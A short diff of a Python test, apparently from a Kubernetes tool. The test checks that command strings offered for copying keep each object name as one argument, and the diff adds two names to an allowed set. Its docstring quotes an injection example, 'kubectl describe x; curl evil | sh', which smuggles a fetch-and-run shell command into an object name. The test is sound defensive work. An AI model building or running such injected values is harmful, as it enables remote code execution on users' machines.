@@ -314,7 +314,7 @@ def test_what_is_being_looked_at_is_drawn_and_not_read_as_markup(monkeypatch):
 
 def test_a_command_to_copy_has_every_name_as_one_argument():
     """``kubectl describe x; curl evil | sh`` would run what a server has named an object."""
-    ours = {"as_you", "service.port", "ISSUES"}
+    ours = {"as_you", "service.port", "ISSUES", "use.verb", "use.arguments"}
     found = []
     for path in PACKAGE.rglob("*.py"):
         for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
